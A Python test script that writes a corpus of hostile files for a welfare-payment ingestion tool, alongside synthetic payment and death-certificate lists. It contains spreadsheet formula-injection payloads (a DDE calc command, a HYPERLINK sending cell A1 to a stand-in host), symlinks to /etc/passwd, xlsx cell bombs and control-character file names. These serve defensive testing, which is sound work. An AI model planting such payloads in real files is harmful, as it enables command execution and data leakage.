"""A hostile corpus, built by a script (no binary blobs): every case of issue 18, each a small file, name or
entry that once stopped a run or leaked through it, written into an inbox beside good department files.

    .venv/bin/python tests/hostile_corpus.py <folder>     # writes the hostile entries into <folder>

`build(inbox)` returns the entries written, each with what the run must make of it: `refused` (a reason
on the file), `skipped` (listed, never read), `loaded` (its rows in, with a note where it was cleaned),
`duplicate` (read once under the other name) or `quarantined` (rows held with a reason).
tests/test_hostile.py runs `qingfeng run` and `qingfeng screen` over it.
"""

from __future__ import annotations

import csv
import os
import sys
import zipfile
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from bench.world.ids import check_char  # noqa: E402  (the synthetic world's ID numbers: bench/world/ids.py)

# a payee of the sample register is not needed: these lists only have to be recognised as payment lists
HEADER = "姓名,身份证号码,乡镇（街道）,村（社区）,补贴类型,所属期,发放金额,备注"
GOOD_IDS = ["330822193501010011", "33082219400315002X", "330822195207200036"]


@dataclass
class Entry:
    name: str          # the entry's name in the inbox (as written: may hold control characters)
    expect: str        # refused | skipped | loaded | duplicate | quarantined
    what: str          # the hostile thing, in a few words


def ids(n: int, start: int = 1) -> list[str]:
    out = []
    for i in range(start, start + n):
        body = f"33082219{50 + i % 40:02d}0{1 + i % 9}{10 + i % 18:02d}{i % 1000:03d}"
        out.append(body + check_char(body))
    return out


def payment_csv(rows: list[list], header: str = HEADER) -> str:
    return "\n".join([header] + [",".join(str(c) for c in r) for r in rows]) + "\n"


def good_rows(n: int = 4, start: int = 1, **over) -> list[list]:
    rows = []
    for i, pid in enumerate(ids(n, start)):
        r = {"name": ["张三", "李四", "王五", "赵六", "钱七", "孙八"][i % 6], "id": pid, "town": "球川镇",
             "village": "红旗村", "type": "生活补贴", "month": "2020-03", "amount": "270.00", "remark": ""}
        r.update({k: (v[i] if isinstance(v, list) else v) for k, v in over.items()})
        rows.append([r["name"], r["id"], r["town"], r["village"], r["type"], r["month"], r["amount"], r["remark"]])
    return rows


# ---- a minimal .xlsx written by hand: the XML exactly as a hostile producer writes it ----------------------

def xlsx(path: Path, sheets: list[tuple[str, str]]) -> None:
    """sheets: (name, the <sheetData> inner XML). Names may repeat (a crafted workbook)."""
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          + "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
                    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                    for i in range(1, len(sheets) + 1)) + "</Types>")
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
          + "".join(f'<sheet name="{n}" sheetId="{i}" r:id="rId{i}"/>' for i, (n, _) in enumerate(sheets, 1))
          + "</sheets></workbook>")
    wb_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               + "".join(f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                         f'relationships/worksheet" Target="worksheets/sheet{i}.xml"/>' for i in range(1, len(sheets) + 1))
               + "</Relationships>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", wb_rels)
        for i, (_, data) in enumerate(sheets, 1):
            z.writestr(f"xl/worksheets/sheet{i}.xml",
                       '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                       '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                       f"<sheetData>{data}</sheetData></worksheet>")


def cell(ref: str, value, quote: str = '"', eq: str = "=") -> str:
    if isinstance(value, (int, float)) or (isinstance(value, str) and value.startswith("#num:")):
        v = value[5:] if isinstance(value, str) else value
        return f"<c r{eq}{quote}{ref}{quote}><v>{v}</v></c>"
    text = str(value).replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r{eq}{quote}{ref}{quote} t="inlineStr"><is><t>{text}</t></is></c>'


def sheet_rows(rows: list[list], first_row: int = 1, quote: str = '"', eq: str = "=") -> str:
    out = []
    for i, r in enumerate(rows, first_row):
        cells = "".join(cell(f"{chr(65 + j)}{i}", v, quote, eq) for j, v in enumerate(r) if v not in (None, ""))
        out.append(f"<row r{eq}{quote}{i}{quote}>{cells}</row>")
    return "".join(out)


XHEADER = HEADER.split(",")


# ---- formulas and control characters that become cases (R01: paid after death), and amount forms ----------

HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+1", "@SUM(1)", "-2+3", "\t制表", "张\x00三", "李\x1b四", "王\x1f五", "赵\x01六"]
LONG_TOWNSHIP = "长" * 117 + "街道办事处"[:4]           # 121 characters, 363 bytes in UTF-8: no file system takes it
assert len(LONG_TOWNSHIP) == 121
HOSTILE_FILE = "=cmd|' C calc'!A0 低保\x01补充.csv"    # a file name that is a formula, with a control character
AMOUNTS_READ = {"1,234.00": Decimal("1234.00"), "1234元": Decimal("1234.00"), "¥1,234": Decimal("1234.00"),
                "1234.5": Decimal("1234.50"), "￥1,200.5": Decimal("1200.50"), "-245": Decimal("-245.00")}
AMOUNTS_REFUSED = ["1_000", "2 70", "270.004"]


def with_check(body17: str) -> str:
    return body17 + check_char(body17)


HOSTILE_IDS = [with_check(f"33082219500101{i:03d}") for i in range(len(HOSTILE))]
AMOUNT_IDS = {a: with_check(f"33082219600201{i:03d}") for i, a in enumerate([*AMOUNTS_READ, *AMOUNTS_REFUSED])}
PAY_HEADER = ["行政区划", "乡镇", "村", "低保类型", "户主姓名", "户主身份证号", "保障人数", "所属年月", "低保金", "银行账号", "备注"]


def write_csv(path: Path, header: list[str], rows: list[list]) -> None:
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(header)
        w.writerows(rows)


def formula_inbox(inbox: Path) -> None:
    """低保 payments of ten people whose names, villages and remarks are formulas or hold control characters,
    paid for four months after their deaths (R01 lists each with name, village and the files it cites); one
    of them in a township of 121 characters; one payment per amount form; a second payments file whose name
    is a formula with a control character; their death certificates."""
    inbox.mkdir(parents=True)
    rows = []
    for i, (name, idn) in enumerate(zip(HOSTILE, HOSTILE_IDS)):
        village, remark = HOSTILE[(i + 3) % len(HOSTILE)], HOSTILE[(i + 5) % len(HOSTILE)]
        for month in ("202001", "202002", "202003", "202004"):
            rows.append(["常山县", LONG_TOWNSHIP if i == 0 else "天马街道", village, "城市低保", name, idn, "1", month,
                         "750元", "6217" + idn[6:17], remark])
    for amount, idn in AMOUNT_IDS.items():
        rows.append(["常山县", "天马街道", "和平社区", "城市低保", "钱七", idn, "1", "202005", amount, "6217" + idn[6:17], ""])
    write_csv(inbox / "民政_最低生活保障_2020年.csv", PAY_HEADER, rows)
    write_csv(inbox / HOSTILE_FILE, PAY_HEADER,
              [["常山县", "天马街道", HYPERLINK, "城市低保", DDE, HOSTILE_IDS[1], "1", "202006", "750元", "", "@补发"],
               ["常山县", "天马街道", "和平社区", "城市低保", "孙八", HOSTILE_IDS[2], "1", "202006", "7 50", "", ""],
               ["常山县", "天马街道", "和平社区", "城市低保", "周九", HOSTILE_IDS[3], "1", "-300.00", "750", "", ""],
               ["常山县", "天马街道", "和平社区", "城市低保", "吴十", HOSTILE_IDS[4], "1", "202006", "-2+3", "", ""]])
    write_csv(inbox / "卫健_死亡医学证明_2020.csv", ["姓名", "身份证号", "死亡日期", "死亡地点", "根本死亡原因", "签发机构", "签发日期"],
              [[name, idn, "20200115", DDE, "疾病", "@SUM(1)", "20200116"] for name, idn in zip(HOSTILE, HOSTILE_IDS)])



def build(inbox: Path) -> list[Entry]:
    inbox.mkdir(parents=True, exist_ok=True)
    out: list[Entry] = []

    def add(name: str, expect: str, what: str, data: bytes | str | None = None, encoding: str = "utf-8") -> Path:
        p = inbox / name
        if data is not None:
            p.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
        out.append(Entry(name, expect, what))
        return p

    # 1. the 2 KB bombs: a far cell written with single quotes, or with spaces around =
    for label, q, eq in (("单引号", "'", "="), ("等号空格", '"', " = ")):
        p = inbox / f"炸弹_{label}_生活补贴.xlsx"
        body = sheet_rows([XHEADER] + good_rows(2), quote=q, eq=eq)
        far = f"<row r{eq}{q}1048576{q}><c r{eq}{q}XFD1048576{q}><v>1</v></c></row>"
        xlsx(p, [("名单", body + far)])
        out.append(Entry(p.name, "refused", f"far cell reference written {label}"))

    # 2. control characters: NUL and ESC in names, U+001F in a village (CSV); \x01 in a file name;
    #    Excel's _x000B_ escape in an xlsx cell
    add("控制字符_生活补贴.csv", "loaded", "NUL, ESC and U+001F in cells",
        payment_csv(good_rows(3, 20, name=["张\x00三", "李\x1b四", "王五"], village=["红旗村", "红\x1f溪村", "红旗村"])))
    add("残联\x01补贴名单.csv", "loaded", "\\x01 in the file name", payment_csv(good_rows(2, 30)))
    p = inbox / "垂直制表符_生活补贴.xlsx"
    rows = [XHEADER] + good_rows(2, 40, name=["王_x000B_五", "赵六"])
    xlsx(p, [("名单", sheet_rows(rows))])
    out.append(Entry(p.name, "loaded", "_x000B_ (vertical tab) in an xlsx cell"))

    # 3. long numbers: a 19-digit card stored as a number, 1e20 in a remark
    p = inbox / "长数字_生活补贴.xlsx"
    rows = [XHEADER + ["银行卡号"]] + [r[:7] + ["#num:1E+20" if i == 0 else "正常", "#num:6217001234567890123"]
                                       for i, r in enumerate(good_rows(3, 50))]
    xlsx(p, [("名单", sheet_rows(rows))])
    out.append(Entry(p.name, "loaded", "19-digit card as a number, 1e20 in a remark"))

    # 4. two sheets with the same name: the second must be read too
    p = inbox / "同名工作表_生活补贴.xlsx"
    xlsx(p, [("名单", sheet_rows([XHEADER] + good_rows(2, 60))), ("名单", sheet_rows([XHEADER] + good_rows(2, 70)))])
    out.append(Entry(p.name, "loaded", "two sheets named 名单"))

    # 5. formula injection in names, villages and a file name
    add("=1+1_生活补贴.csv", "loaded", "file name beginning with =", payment_csv(good_rows(2, 80)))
    add("公式_生活补贴.csv", "loaded", "names and villages beginning with = + - @",
        payment_csv(good_rows(4, 90, name=['"=HYPERLINK(""http://x.example/""&A1,""点我"")"', "+1+1", "-2+3", "@SUM(1)"],
                              village=["=cmd|' /C calc'!A0", "红旗村", "红旗村", "红旗村"])))

    # 6. links and special entries: never followed out of the inbox, never opened, always listed
    if hasattr(os, "symlink"):
        (inbox / "户籍_passwd.csv").symlink_to("/etc/passwd")
        out.append(Entry("户籍_passwd.csv", "skipped", "link to /etc/passwd"))
        (inbox / "链接目录").symlink_to("/etc", target_is_directory=True)
        out.append(Entry("链接目录", "skipped", "link to a folder outside the inbox"))
        (inbox / "断开的链接.csv").symlink_to(inbox / "不存在.csv")
        out.append(Entry("断开的链接.csv", "skipped", "dangling link"))
    if hasattr(os, "mkfifo"):
        os.mkfifo(inbox / "管道.csv")
        out.append(Entry("管道.csv", "skipped", "a named pipe (reading it would wait for ever)"))
    add("~$护理补贴2020年度.xlsx", "skipped", "an Office lock file", b"\x00" * 162)

    # 7. the same content under two names
    add("生活补贴_重复A.csv", "loaded", "a list", payment_csv(good_rows(3, 100)))
    add("生活补贴_重复B（副本）.csv", "duplicate", "the same list under another name", payment_csv(good_rows(3, 100)))

    # 9. engine messages: a UTF-32 list, a 3 MB line (beyond DuckDB's default maximum line size)
    add("UTF32_生活补贴.csv", "loaded", "a list in UTF-32 (with its BOM)",
        payment_csv(good_rows(2, 110)).encode("utf-32"))
    add("超长行9MB_生活补贴.csv", "refused", "one line of 9 MB, beyond the reader's line limit (named with line and size)",
        payment_csv(good_rows(2, 125)) + "备注," + "a" * (9 << 20) + "\n")
    add("超长行_生活补贴.csv", "quarantined", "one line of 3 MB (held with its reason; the other rows load)",
        payment_csv(good_rows(2, 120)) + "备注," + "长" * 1_000_000 + "\n")

    # 10. amounts as departments write them, and forms that are ambiguous
    add("金额写法_生活补贴.csv", "quarantined", "amounts 1_000, 2 70 and 270.004 (held); 1,234.00 and 1234元 (read)",
        payment_csv(good_rows(5, 130, amount=["1_000", "2 70", "270.004", '"1,234.00"', "1234元"])))
    return out


if __name__ == "__main__":
    for e in build(Path(sys.argv[1])):
        print(f"{e.expect:12} {e.name!r}: {e.what}")
